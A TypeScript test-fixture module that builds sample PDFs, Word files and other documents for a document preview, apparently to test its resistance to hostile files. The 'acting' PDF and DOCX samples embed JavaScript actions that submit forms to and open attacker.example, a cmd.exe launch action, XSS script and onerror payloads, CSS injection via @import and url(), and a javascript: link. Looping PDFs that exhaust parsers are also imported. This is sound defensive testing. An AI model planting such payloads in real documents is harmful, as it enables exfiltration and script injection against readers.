import { readFileSync } from 'node:fs';
import { buildDocx, xml, type DocxBlock } from '#testing/documents/build-docx';
import { flateStream, pdfOf, streamOf, type PdfBody } from '../hostile/files/bytes/raw-pdf.js';
import { PDF_ENCRYPTED } from '../hostile/files/kinds/pdf/pdf-encrypted.js';
import { PDF_PAGE_TREE_LOOP } from '../hostile/files/kinds/pdf/pdf-page-tree.js';
import { PDF_DEEP_OBJECT, PDF_TABLE_LOOP } from '../hostile/files/kinds/pdf/pdf-structure.js';
import type { HostileKind } from '../hostile/files/hostile-kind.js';
import { Sender } from '../hostile/files/sender.js';
import { withObjects } from '../hostile/files/twins/pdf.js';
import { validPng } from '../hostile/files/twins/picture.js';
import type { Shown } from './preview-world.js';

export const PDF = 'application/pdf';
const OPEN_XML = 'application/vnd.openxmlformats-officedocument';
const DOCX = `${OPEN_XML}.wordprocessingml.document`;
const XLSX = `${OPEN_XML}.spreadsheetml.sheet`;

/** Nobody's (RFC 2606); nothing may ever be asked of it. */
const ELSEWHERE = 'http://attacker.example/a';

export const PAGES = 60;
export const ROWS = 620;

const fixture = (name: string): Uint8Array => readFileSync(new URL(`../../libs/document-reading/src/fixtures/${name}`, import.meta.url));
const paragraph = (text: string): object => ({ kind: 'paragraph', text, page: null, box: null });

/** Many pages of two sizes, each with its number on it. */
function manyPages(): Uint8Array {
  const objects = new Map<number, PdfBody>([
    [1, '<< /Type /Catalog /Pages 2 0 R >>'],
    [5, '<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>'],
  ]);
  const kids = Array.from({ length: PAGES }, (_, page) => {
    const [number, box] = [10 + page * 2, page % 2 === 0 ? '0 0 595 842' : '0 0 842 595'];
    objects.set(
      number,
      `<< /Type /Page /Parent 2 0 R /MediaBox [${box}] /Contents ${number + 1} 0 R /Resources << /Font << /F1 5 0 R >> >> >>`,
    );
    objects.set(number + 1, flateStream('', `BT /F1 90 Tf 72 400 Td (Page ${page + 1}) Tj ET`));
    return `${number} 0 R`;
  });
  return pdfOf(objects.set(2, `<< /Type /Pages /Kids [${kids.join(' ')}] /Count ${PAGES} >>`));
}

/** A page that a fax or an office scanner makes: one picture, CCITT Group 4 (ITU-T T.6), here black all over. */
function faxedPage(): Uint8Array {
  // One bit for each line that is like the (white) line above it, then the end of the block; white is drawn as 0, which is black.
  const lines = Buffer.from([0xff, 0x00, 0x10, 0x01]);
  const entries =
    '/Type /XObject /Subtype /Image /Width 8 /Height 8 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /CCITTFaxDecode ' +
    '/DecodeParms << /K -1 /Columns 8 /Rows 8 /BlackIs1 true >>';
  const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /X1 7 0 R >> >> >>';
  const contents = flateStream('', 'q 595 0 0 842 0 0 cm /X1 Do Q');
  return pdfOf(
    withObjects(
      '1',
      new Map<number, PdfBody>([
        [3, page],
        [4, contents],
        [7, streamOf(entries, lines)],
      ]),
    ),
  );
}

/** Scripts at opening, on the page and in a field, a form that is sent, a link over the whole page, and a program to start. */
function actingPdf(): Uint8Array {
  const script = `<< /S /JavaScript /JS (app.alert\\('a'\\); this.submitForm\\('${ELSEWHERE}'\\); app.launchURL\\('${ELSEWHERE}'\\);) >>`;
  const rectangle = '/Rect [0 0 595 842]';
  return pdfOf(
    withObjects(
      '1',
      new Map<number, PdfBody>([
        [1, `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} /AA << /WC ${script} >> /AcroForm << /Fields [9 0 R] >> >>`],
        [
          3,
          `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /AA << /O ${script} >> /Annots [8 0 R 9 0 R 10 0 R] /Resources << /Font << /F1 5 0 R >> >> >>`,
        ],
        [8, `<< /Type /Annot /Subtype /Link ${rectangle} /A << /S /URI /URI (${ELSEWHERE}) >> >>`],
        [
          9,
          `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) ${rectangle} /A << /S /SubmitForm /F (${ELSEWHERE}) >> /AA << /D ${script} >> >>`,
        ],
        [10, `<< /Type /Annot /Subtype /Link ${rectangle} /A << /S /Launch /F (cmd.exe) >> >>`],
      ]),
    ),
  );
}

const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const RELATIONS = 'http://schemas.openxmlformats.org/package/2006/relationships';

const drawing = (relation: string): DocxBlock => ({
  xml:
    '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="3048000" cy="1905000"/>' +
    '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">' +
    '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill>' +
    `<a:blip xmlns:r="${R}" ${relation}/></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="3048000" cy="1905000"/></a:xfrm></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`,
});
const relation = (id: string, type: string, target: string, more = ''): string =>
  `<Relationship Id="${id}" Type="${R}/${type}" Target="${target}"${more}/>`;
const relations = (...all: readonly string[]): string => xml(`<Relationships xmlns="${RELATIONS}">${all.join('')}</Relationships>`);
const TYPES = xml(
  '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/><Default Extension="html" ContentType="text/html"/></Types>',
);

/** A report as offices write them: head in two columns, a table, a picture. */
const letter = (): Uint8Array =>
  buildDocx(
    [
      {
        rows: [
          [
            ['ỦY BAN NHÂN DÂN TỈNH', 'SỞ NỘI VỤ'],
            ['CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM', 'Độc lập – Tự do – Hạnh phúc'],
          ],
        ],
      },
      {
        xml: '<w:p><w:pPr><w:jc w:val="center"/></w:pPr><w:r><w:rPr><w:b/><w:color w:val="C00000"/><w:sz w:val="32"/></w:rPr><w:t>BÁO CÁO</w:t></w:r></w:p>',
      },
      'Kết quả thực hiện nhiệm vụ cải cách hành chính quý I',
      {
        rows: [
          [['TT'], ['Nội dung'], ['Kết quả']],
          [['1'], ['Rà soát thủ tục'], ['Đạt']],
        ],
      },
      drawing('r:embed="rId7"'),
    ],
    {
      '[Content_Types].xml': TYPES,
      'word/_rels/document.xml.rels': relations(relation('rId7', 'image', 'media/a.png')),
      'word/media/a.png': validPng('1'),
    },
  );

/** Pictures, a template, a frame and styles that lie elsewhere, a link that runs a script, and a page of HTML with scripts. */
const actingDocx = (): Uint8Array =>
  buildDocx(
    [
      'Nội dung vẫn đọc được',
      drawing('r:link="rId7"'),
      drawing('r:embed="rId7"'),
      { xml: `<w:p><w:hyperlink xmlns:r="${R}" r:id="rId8"><w:r><w:t>liên kết</w:t></w:r></w:hyperlink></w:p>` },
      { xml: `<w:altChunk xmlns:r="${R}" r:id="rId9"/>` },
      {
        xml: `<w:p><w:r><w:rPr><w:rFonts w:ascii="x; } body { background: url(${ELSEWHERE}) } @import '${ELSEWHERE}'; p {"/><w:color w:val="red; background: url(${ELSEWHERE})"/></w:rPr><w:t>&lt;img src=x onerror=alert(1)&gt;&lt;script&gt;alert(2)&lt;/script&gt;</w:t></w:r></w:p>`,
      },
      {
        xml: `<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:10pt;background:url(${ELSEWHERE})"><v:imagedata xmlns:r="${R}" r:id="rId7"/></v:shape></w:pict></w:r></w:p>`,
      },
    ],
    {
      '[Content_Types].xml': TYPES,
      'word/_rels/document.xml.rels': relations(
        relation('rId1', 'styles', 'styles.xml'),
        relation('rId2', 'theme', 'theme.xml'),
        relation('rId7', 'image', ELSEWHERE, ' TargetMode="External"'),
        relation('rId8', 'hyperlink', 'javascript:alert(3)', ' TargetMode="External"'),
        relation('rId9', 'aFChunk', 'chunk.html'),
      ),
      'word/chunk.html': `<html><body><script>alert(4)</script><img src="${ELSEWHERE}" onerror="alert(5)"></body></html>`,
      // Colours of a theme are written into a style sheet as they are.
      'word/theme.xml': xml(
        `<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:themeElements><a:clrScheme name="a"><a:accent1><a:srgbClr val="a} @import '${ELSEWHERE}'; section.docx{background:url(${ELSEWHERE});--b:u\\72l(${ELSEWHERE})} b{"/></a:accent1></a:clrScheme></a:themeElements></a:theme>`,
      ),
      'word/styles.xml': xml(
        `<w:styles xmlns:w="${W}"><w:style w:type="paragraph" w:styleId="a{}&lt;/style&gt;&lt;script&gt;alert(6)&lt;/script&gt;"><w:name w:val="a"/><w:rPr><w:rFonts w:ascii="&lt;/style&gt;&lt;script&gt;alert(7)&lt;/script&gt;&lt;img src='${ELSEWHERE}'&gt;"/><w:sz w:val="30"/></w:rPr></w:style></w:styles>`,
      ),
    },
  );

function hostile(kind: HostileKind, count: number): [string, Shown][] {
  return [...kind.files(new Sender(1))]
    .slice(0, count)
    .map(({ name, content }, index) => [`${kind.kind}-${index}`, { name, mediaType: PDF, content: content() }]);
}

/** PDFs that no reader reads to an end; none may hold up the page. */
export const ENDLESS: Readonly<Record<string, Shown>> = Object.fromEntries([
  ...hostile(PDF_PAGE_TREE_LOOP, 1),
  ...hostile(PDF_TABLE_LOOP, 1),
  ...hostile(PDF_DEEP_OBJECT, 1),
]);

export const DOCUMENTS: Readonly<Record<string, Shown>> = {
  report: {
    name: 'bao-cao.pdf',
    mediaType: PDF,
    content: fixture('bao-cao.pdf'),
    highlight: [{ page: 1, box: { left: 0.1, top: 0.45, width: 0.8, height: 0.05 } }],
  },
  scan: { name: 'ban-quet.pdf', mediaType: PDF, content: fixture('ban-quet.pdf') },
  fax: { name: 'fax.pdf', mediaType: PDF, content: faxedPage() },
  long: {
    name: 'dai.pdf',
    mediaType: PDF,
    content: manyPages(),
    highlight: [{ page: 40, box: { left: 0.2, top: 0.5, width: 0.5, height: 0.1 } }],
  },
  'acting-pdf': { name: 'kịch bản.pdf', mediaType: PDF, content: actingPdf() },
  'broken-pdf': { name: 'hỏng.pdf', mediaType: PDF, content: Buffer.from('%PDF-1.7\nnothing') },
  'locked-pdf': {
    ...hostile(PDF_ENCRYPTED, 1)[0]?.[1],
    name: 'khóa.pdf',
    mediaType: PDF,
    content: hostile(PDF_ENCRYPTED, 1)[0]?.[1].content ?? Buffer.alloc(0),
  },
  letter: { name: 'bao-cao.docx', mediaType: DOCX, content: letter() },
  'acting-docx': { name: 'kịch bản.docx', mediaType: DOCX, content: actingDocx() },
  'broken-docx': {
    name: 'hỏng.docx',
    mediaType: DOCX,
    content: Buffer.from('PK'),
    text: {
      kind: 'flow',
      isWhole: false,
      blocks: [
        paragraph('Kết quả thực hiện'),
        {
          kind: 'table',
          rows: [
            ['TT', 'Nội dung'],
            ['1', 'Rà soát\nthủ tục'],
          ],
        },
      ],
    },
  },
  workbook: {
    name: 'bieu-mau.xlsx',
    mediaType: XLSX,
    content: Buffer.alloc(10),
    text: {
      kind: 'sheets',
      isWhole: true,
      sheets: [
        {
          name: 'Quý I',
          rows: Array.from({ length: ROWS }, (_, row) => [`Nội dung ${row + 1}`, `1.${String(row).padStart(3, '0')}`, '=1+1', '95,5%']),
        },
        { name: 'Phụ lục', rows: [['Phòng Nội vụ', '12']] },
      ],
    },
  },
  'unread-workbook': { name: 'bieu-mau.xlsx', mediaType: XLSX, content: Buffer.alloc(10) },
  picture: { name: 'anh.png', mediaType: 'image/png', content: validPng('1') },
  'broken-picture': { name: 'anh.png', mediaType: 'image/png', content: Buffer.from('no picture') },
  note: { name: 'ghi-chu.txt', mediaType: 'text/plain', content: Buffer.from('Dòng một\nDòng hai <script>alert(1)</script>') },
  archive: { name: 'goi.zip', mediaType: 'application/zip', content: Buffer.alloc(4) },
  large: { name: 'lon.pdf', mediaType: PDF, content: Buffer.alloc(4), size: 26 * 1024 * 1024 },
  ...ENDLESS,
};
